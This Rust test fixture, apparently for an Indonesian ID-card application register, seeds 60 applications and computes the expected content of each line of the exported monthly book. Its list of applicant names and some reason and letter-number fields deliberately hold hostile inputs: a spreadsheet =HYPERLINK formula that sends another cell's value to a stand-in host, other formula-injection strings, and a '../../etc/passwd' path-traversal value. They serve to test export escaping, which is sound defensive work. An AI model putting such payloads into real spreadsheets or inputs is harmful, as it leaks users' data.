//! A register with odd names in it, and what has to stand in each line of its book.

use std::io::Cursor;
use std::sync::Arc;

use chrono::{DateTime, TimeDelta, TimeZone, Utc};
use layanan_ktp::app::buku::{Order, write};
use layanan_ktp::config::kantor;
use layanan_ktp::domain::berkas::{AlasanKurang, Answer, Finding, Piece, SyaratKode};
use layanan_ktp::domain::buku::{Bentuk, Cetakan, Periode};
use layanan_ktp::domain::desa::DesaKode;
use layanan_ktp::domain::kantor::Kantor;
use layanan_ktp::domain::kk::NomorKk;
use layanan_ktp::domain::kode::Kode;
use layanan_ktp::domain::langkah::{Alasan, AlasanBatal, Event};
use layanan_ktp::domain::nama::Nama;
use layanan_ktp::domain::nik::{Nik, Sex};
use layanan_ktp::domain::pemohon::{CheckedData, DataEntri, DataPemohon, Jenis, Numbers, Pengantar};
use layanan_ktp::domain::permohonan::PernyataanKind;
use layanan_ktp::domain::petugas::{Actor, ChatId, Peran, PetugasId, Stamp};
use layanan_ktp::domain::register::NomorRegister;
use layanan_ktp::domain::register::block::{Block, PaperReceipt, PassOver, Void, VoidReason};
use layanan_ktp::domain::retention::Rule;
use layanan_ktp::domain::wib::wib;
use layanan_ktp::locale::Locale;
use layanan_ktp::store::Store;
use layanan_ktp::store::permohonan::NewPermohonan;

use crate::server::Database;

/// Names of people, and of whoever wants a spreadsheet to do something. The second column is how the standard fonts have them.
pub(crate) const NAMES: [(&str, &str); 12] = [
    ("Siti Aminah", "Siti Aminah"),
    ("=HYPERLINK(\"http://contoh.invalid/?\"&E8,\"klik\")", "=HYPERLINK(\"http://contoh.invalid/?\"&E8,\"klik\")"),
    ("+62 812-0000-9901", "+62 812-0000-9901"),
    ("-1+1", "-1+1"),
    ("@SUM(A1:A9)", "@SUM(A1:A9)"),
    ("\tTab di depan", "Tab di depan"),
    ("Nur\u{2BC}aini Ma’ruf", "Nur’aini Ma’ruf"),
    ("Şahin Đặng-Łuk", "Sahin Dang-Luk"),
    ("M. Yusuf, S.Pd. <b>&amp;</b> O'Neill \"Ucok\"", "M. Yusuf, S.Pd. <b>&amp;</b> O'Neill \"Ucok\""),
    (
        "Raden Ajeng Kusumaningtyas Wirahadikusumah Prawirodirdjo Sosro",
        "Raden Ajeng Kusumaningtyas Wirahadikusumah Prawirodirdjo Sosro",
    ),
    (
        "Wiraatmadjanotonegorosastrodiningratpuspowardojokusumahadiputra",
        "Wiraatmadjanotonegorosastrodiningratpuspowardojokusumahadiputra",
    ),
    ("../../etc/passwd_x0009_", "../../etc/passwd_x0009_"),
];

/// More lines than a page has.
pub(crate) const LINES: u32 = 60;

/// Which of them are of whom nothing can be said any more.
pub(crate) const FORGOTTEN: u32 = 13;
pub(crate) const UNREADABLE: u32 = 14;

/// A reason longer than a page.
pub(crate) fn long_reason() -> String {
    (1..=400).map(|n| format!("kata{n}")).collect::<Vec<_>>().join(" ")
}

pub(crate) struct Stage {
    pub(crate) store: Store,
    pub(crate) database: Database,
    pub(crate) kantor: Arc<Kantor>,
    kode: Vec<Kode>,
}

pub(crate) fn morning() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, 23, 1, 0, 0).unwrap()
}

fn kode(n: u32) -> Kode {
    let [_, _, high, low] = n.to_be_bytes();
    Kode::from_entropy([low, 9, 3, high, 1, 2, 3, 4])
}

/// What stands in a line: as the register has it, masked or not.
#[derive(Debug)]
pub(crate) struct Expected {
    pub(crate) nomor: String,
    pub(crate) masuk: String,
    pub(crate) nama: String,
    pub(crate) nik: String,
    pub(crate) kk: String,
    pub(crate) desa: String,
    pub(crate) rt_rw: String,
    pub(crate) jenis: String,
    pub(crate) pengantar: Option<(String, String)>,
    pub(crate) cek: Option<(String, String)>,
    pub(crate) entri: Option<String>,
    pub(crate) kirim: Option<(String, String)>,
    pub(crate) petugas: String,
    pub(crate) keterangan: String,
}

impl Stage {
    pub(crate) async fn new() -> Self {
        let profile =
            include_str!("../../kantor.toml").replace("# kasi = \"…\" ", "kasi = \"Ratna Wulandari, S.Sos.\" ");
        let kantor = Arc::new(kantor::parse(&profile).unwrap());
        let database = Database::new().await;
        let store = database.store().await;
        let mut stage = Self { store, database, kantor, kode: Vec::new() };
        let people = stage.people().await;
        for n in 1..=LINES {
            stage.permohonan(n, &people).await;
        }
        stage.spoil().await;
        stage
    }

    async fn people(&self) -> [PetugasId; 3] {
        let mut uow = self.store.begin().await.unwrap();
        let since = morning() - TimeDelta::days(30);
        let mut ids = Vec::new();
        for (chat, peran, nama) in [
            (2001, Peran::Staf, "Budi Santoso"),
            (2002, Peran::Kasi, "Ratna Wulandari"),
            (2003, Peran::Dispendukcapil, "Hendra Wijaya"),
        ] {
            ids.push(uow.petugas().add(ChatId(chat), peran, nama, since).await.unwrap());
        }
        uow.commit().await.unwrap();
        ids.try_into().unwrap()
    }

    async fn permohonan(&mut self, n: u32, people: &[PetugasId; 3]) {
        let at = morning() + TimeDelta::minutes(i64::from(n) * 7);
        let kode = kode(n);
        let by = |who: usize, peran, minutes: i64| Stamp {
            by: Actor::Petugas(people[who], peran),
            at: at + TimeDelta::minutes(minutes),
        };
        let staf = |minutes| by(0, Peran::Staf, minutes);
        let mut uow = self.store.begin().await.unwrap();
        uow.permohonan().insert(&self.asked(n, at, people[0]), staf(0)).await.unwrap();
        uow.commit().await.unwrap();
        for (event, stamp) in events(n, &person(n), (people[2], at), staf, |minutes| by(1, Peran::Kasi, minutes)) {
            let mut uow = self.store.begin().await.unwrap();
            let before = uow.permohonan().lock(kode).await.unwrap().unwrap();
            uow.permohonan().save(&before, &event, stamp).await.unwrap();
            uow.commit().await.unwrap();
        }
        self.kode.push(kode);
    }

    fn asked(&self, n: u32, at: DateTime<Utc>, staf: PetugasId) -> NewPermohonan {
        let jenis = if n.is_multiple_of(5) { Jenis::Pembetulan } else { Jenis::Baru };
        let syarat = self.kantor.syarat(jenis).to_vec();
        let brought = |kode: &SyaratKode| Piece {
            syarat: kode.clone(),
            cycle: 0,
            answer: Answer::Original(staf),
            by: Some(staf),
            at,
            replaced: false,
            gone: None,
        };
        NewPermohonan {
            kode: kode(n),
            jenis,
            pieces: syarat.iter().map(|one| brought(&one.kode)).collect(),
            syarat,
            syarat_version: 1,
            data: person(n),
            pihak: Vec::new(),
            consent: None,
            draft_since: at,
            pemohon_agreed: None,
        }
    }

    /// One is forgotten, of one the data is spoilt.
    async fn spoil(&self) {
        let mut uow = self.store.begin().await.unwrap();
        assert!(uow.forget().permohonan(kode(FORGOTTEN), Rule::Asked, morning() + TimeDelta::days(2)).await.unwrap());
        uow.commit().await.unwrap();
        let spoilt = kode(UNREADABLE).compact();
        let sql = format!(
            "set session_replication_role = replica; update permohonan set data = '\\x00' where kode = '{spoilt}'"
        );
        self.database.sql(&sql).await;
    }

    /// The book of the month.
    pub(crate) async fn book(&self, bentuk: Bentuk, lengkap: bool) -> Vec<u8> {
        self.order(&self.whole(bentuk, lengkap)).await
    }

    pub(crate) fn whole(&self, bentuk: Bentuk, lengkap: bool) -> Order {
        let periode = Periode::month(morning().date_naive(), 0);
        Order {
            kantor: self.kantor.clone(),
            locale: Locale::default(),
            cetakan: Cetakan { periode, bentuk, lengkap },
            at: morning() + TimeDelta::days(3),
            folder: None,
        }
    }

    pub(crate) async fn order(&self, order: &Order) -> Vec<u8> {
        let (bytes, lines) = self.written(order).await;
        assert_eq!(lines, LINES);
        bytes
    }

    /// The file, and how many lines it has.
    pub(crate) async fn written(&self, order: &Order) -> (Vec<u8>, u32) {
        let (out, lines) = write(&self.store, order, Cursor::new(Vec::new()), |_| ()).await.unwrap();
        (out.into_inner(), lines)
    }

    /// So many numbers are set aside for paper.
    pub(crate) async fn for_paper(&self, count: u32) -> Block {
        self.sets_aside((2026, count), morning() + TimeDelta::hours(12)).await
    }

    /// So many of a year are set aside at this moment.
    pub(crate) async fn sets_aside(&self, (tahun, count): (i32, u32), at: DateTime<Utc>) -> Block {
        let mut uow = self.store.begin().await.unwrap();
        let kasi = uow.petugas().all().await.unwrap().into_iter().find(|one| one.peran == Peran::Kasi).unwrap();
        let block = uow.counter().of(tahun).await.unwrap().block(PassOver::SetAside(count)).unwrap();
        uow.counter().pass_over(block, (kasi.id, Peran::Kasi), at).await.unwrap();
        uow.commit().await.unwrap();
        block
    }

    /// Nothing is going to come under these.
    pub(crate) async fn voids(&self, (first, last): (u32, u32), reason: VoidReason) {
        let mut uow = self.store.begin().await.unwrap();
        let kasi = uow.petugas().all().await.unwrap().into_iter().find(|one| one.peran == Peran::Kasi).unwrap();
        let void = Void { tahun: 2026, first, last };
        uow.counter().void((void, reason), (kasi.id, Peran::Kasi), morning() + TimeDelta::days(3)).await.unwrap();
        uow.commit().await.unwrap();
    }

    /// One more, received on paper under this number and recorded two days later.
    pub(crate) async fn receives_on_paper(&self, urut: u32) {
        let mut uow = self.store.begin().await.unwrap();
        let staf = uow.petugas().all().await.unwrap().into_iter().find(|one| one.peran == Peran::Staf).unwrap().id;
        let by = |at| Stamp { by: Actor::Petugas(staf, Peran::Staf), at };
        let (happened, recorded) = (morning() + TimeDelta::hours(25), morning() + TimeDelta::days(2));
        uow.permohonan().insert(&self.asked(LINES + 1, recorded, staf), by(recorded)).await.unwrap();
        let before = uow.permohonan().lock(kode(LINES + 1)).await.unwrap().unwrap();
        let paper = PaperReceipt { nomor: NomorRegister { tahun: 2026, urut }, at: happened };
        let received = by(recorded + TimeDelta::minutes(15));
        uow.permohonan().save(&before, &Event::DiterimaDiKertas { paper }, received).await.unwrap();
        uow.commit().await.unwrap();
    }

    /// What the register says of the line with this number.
    pub(crate) async fn expected(&self, n: u32, lengkap: bool) -> Expected {
        let found = self.store.begin().await.unwrap();
        let mut uow = found;
        let nomor = format!("470/{n:03}/416-313/2026");
        let masuk = moment(morning() + TimeDelta::minutes(i64::from(n) * 7 + 1));
        let jenis = if n.is_multiple_of(5) { "perbaikan data KTP" } else { "KTP baru" }.to_owned();
        let mut expected = Expected {
            nomor,
            masuk,
            nama: String::new(),
            nik: String::new(),
            kk: String::new(),
            desa: "Japan".to_owned(),
            rt_rw: String::new(),
            jenis,
            pengantar: None,
            cek: None,
            entri: None,
            kirim: None,
            petugas: "Terima: Budi Santoso".to_owned(),
            keterangan: String::new(),
        };
        if n == FORGOTTEN {
            expected.nama = "(dihapus)".into();
            expected.keterangan =
                "dibatalkan 23-11-2026: data salah, akan diajukan lagi; data pribadi sudah dimusnahkan".into();
            return expected;
        }
        if n == UNREADABLE {
            expected.nama = "(tidak terbaca)".into();
            expected.keterangan = "data tidak dapat dibuka; periksa dengan layanan-ktp verifikasi".into();
            return expected;
        }
        let p = uow.permohonan().find(kode(n)).await.unwrap().unwrap().permohonan;
        let masked = |number: &str| format!("{}{}", "•".repeat(12), &number[12..]);
        expected.nama = p.data.nama.as_str().into();
        (expected.nik, expected.kk) =
            (p.data.nik().unwrap().as_str().to_owned(), p.data.kk().unwrap().as_str().to_owned());
        if !lengkap {
            (expected.nik, expected.kk) = (masked(&expected.nik), masked(&expected.kk));
        }
        expected.of_steps(n, &p);
        expected
    }
}

impl Expected {
    fn of_steps(&mut self, n: u32, p: &layanan_ktp::domain::permohonan::Permohonan) {
        let at = |minutes: i64| moment(morning() + TimeDelta::minutes(i64::from(n) * 7 + minutes));
        match n % 4 {
            0 => {
                let entri = p.entri.as_ref().unwrap();
                let letter = entri.pengantar.as_ref().unwrap();
                self.rt_rw = format!("{}/{}", entri.rt, entri.rw);
                self.pengantar = Some((letter.nomor.clone(), letter.tanggal.format("%d-%m-%Y").to_string()));
                self.cek = Some(("lengkap".to_owned(), at(2)));
                self.entri = Some(at(3));
                self.kirim = Some((at(4), "Hendra Wijaya".to_owned()));
                self.petugas.push_str("\nCek: Ratna Wulandari\nEntri: Budi Santoso\nKirim: Budi Santoso");
                let stated = p.pernyataan.last().unwrap();
                self.keterangan = format!("KTP sudah dicetak ({})", stated.tanggal.format("%d-%m-%Y"));
            }
            1 => {}
            2 => {
                self.cek = Some(("tidak lengkap, dikembalikan 1 kali".to_owned(), at(2)));
                self.petugas.push_str("\nCek: Ratna Wulandari");
            }
            _ => {
                let teks = if n == 3 { long_reason() } else { "=1+1 tidak jadi".to_owned() };
                self.keterangan = format!("dibatalkan 23-11-2026: {teks}");
            }
        }
    }
}

/// Every fourth goes to the end; the others are received, returned or closed.
fn events(
    n: u32,
    person: &DataPemohon,
    (officer, at): (PetugasId, DateTime<Utc>),
    staf: impl Fn(i64) -> Stamp,
    kasi: impl Fn(i64) -> Stamp,
) -> Vec<(Event, Stamp)> {
    let received = (Event::Diterima, staf(1));
    let today = wib(at).date_naive();
    match n {
        FORGOTTEN => {
            let alasan = Alasan { kode: AlasanBatal::SalahData, text: None };
            vec![received, (Event::Dibatalkan { alasan }, staf(2))]
        }
        UNREADABLE => vec![received],
        _ => match n % 4 {
            0 => {
                let checked = CheckedData::new(person.clone(), entered(n, today), today).unwrap();
                vec![
                    received,
                    (Event::Lengkap, kasi(2)),
                    (Event::Dientri { data: Box::new(checked) }, staf(3)),
                    (Event::Dikirim { recipient: officer }, staf(4)),
                    (Event::Dinyatakan { kind: PernyataanKind::Dicetak, tanggal: today, susulan: false }, staf(5)),
                ]
            }
            1 => vec![received],
            2 => {
                let finding =
                    Finding { syarat: SyaratKode("kk".into()), alasan: AlasanKurang::TidakTerbaca, note: None };
                vec![received, (Event::TidakLengkap { findings: vec![finding] }, kasi(2))]
            }
            _ => {
                let text = if n == 3 { long_reason() } else { "=1+1 tidak jadi".to_owned() };
                let alasan = Alasan { kode: AlasanBatal::Lainnya, text: Some(text) };
                vec![received, (Event::Dibatalkan { alasan }, staf(2))]
            }
        },
    }
}

fn entered(n: u32, today: chrono::NaiveDate) -> DataEntri {
    DataEntri {
        tempat_lahir: "Mojokerto".into(),
        tanggal_lahir: "1990-01-01".parse().unwrap(),
        sex: Sex::Female,
        alamat: "Jl. Contoh 12".into(),
        rt: format!("{:03}", n % 20),
        rw: "002".into(),
        pengantar: Some(Pengantar { nomor: format!("=470/{n}/2026"), tanggal: today }),
    }
}

fn person(n: u32) -> DataPemohon {
    let nama = NAMES[(n as usize - 1) % NAMES.len()].0;
    DataPemohon {
        nama: Nama::from_stored(nama).unwrap(),
        numbers: Some(Numbers {
            nik: Nik::from_stored(&format!("35161341019099{:02}", n % 100)).unwrap(),
            kk: NomorKk::from_stored(&format!("35161301011599{:02}", n % 100)).unwrap(),
        }),
        desa: DesaKode::parse("35.16.13.2009").unwrap(),
        perubahan: Vec::new(),
        phone: None,
    }
}

/// `23-11-2026 08.01`
fn moment(at: DateTime<Utc>) -> String {
    wib(at).format("%d-%m-%Y %H.%M").to_string()
}
